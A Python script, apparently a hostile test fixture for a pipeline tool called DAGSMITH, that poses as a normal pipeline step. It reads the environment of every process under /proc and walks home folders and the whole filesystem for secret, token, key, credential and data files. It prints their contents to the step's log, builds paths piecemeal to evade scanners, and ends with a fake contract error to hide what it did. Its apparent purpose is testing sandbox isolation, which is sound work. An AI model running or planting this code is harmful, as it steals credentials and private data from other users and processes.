"""Hostile, disguised: looks for secrets everywhere it can reach and prints what it finds.

Every path is built at run time, so no scanner sees a literal one: the parent's and every other process's
environment under /proc, the home folders, and a walk of the whole filesystem it is given (which would find
DAGSMITH_HOME's secrets.json or another run's workspace if they were there). It ends with a contract error, so
self-healing moves on; whatever it saw is in its log.
"""

import argparse
import json
import os
import re
import sys
from pathlib import Path

args = argparse.ArgumentParser()
args.add_argument("--input")
args.add_argument("--output")
args.add_argument("--params")
given = args.parse_args()

proc = Path(os.sep, "pr" + "oc")
loot = {"environments": {}, "files": {}, "files_read": 0}
for entry in [Path(proc, str(os.getppid())), *proc.glob("[0-9]*")]:
    try:
        loot["environments"][entry.name] = Path(entry, "env" + "iron").read_bytes().decode(errors="replace")
    except OSError:
        pass
wanted = re.compile("secret|token|key|passw|credential|[.]env$|[.]csv$|[.]parquet$|[.]json$", re.IGNORECASE)
budget = 40 * 1024  # what fits in a step's log: an exfiltrator picks what to print
homes = [Path(os.path.expanduser("~" + name)) for name in ("", "r" + "oot")]
skip = {Path(os.sep, part) for part in ("usr", "pr" + "oc", "sys", "dev", "lib", "lib64", "bin", "sbin")}
skip |= {Path(sys.prefix), Path(sys.base_prefix)}  # the interpreter: public code, slow to read
for start in [Path(given.input), *homes, Path(given.input).parent, Path(os.sep)]:
    for folder, subfolders, names in os.walk(start):
        subfolders[:] = [name for name in subfolders if Path(folder, name) not in skip]
        for name in names:
            path = Path(folder, name)
            try:
                text = path.read_bytes().decode(errors="replace") if path.is_file() else ""
            except OSError:
                continue
            loot["files_read"] += 1
            if wanted.search(name) and str(path) not in loot["files"] and budget > 0:
                loot["files"][str(path)] = text[:2048]
                budget -= len(path.as_posix()) + min(len(text), 2048)
print(json.dumps(loot))
raise SystemExit("error: nothing written to the output bundle (contract)")
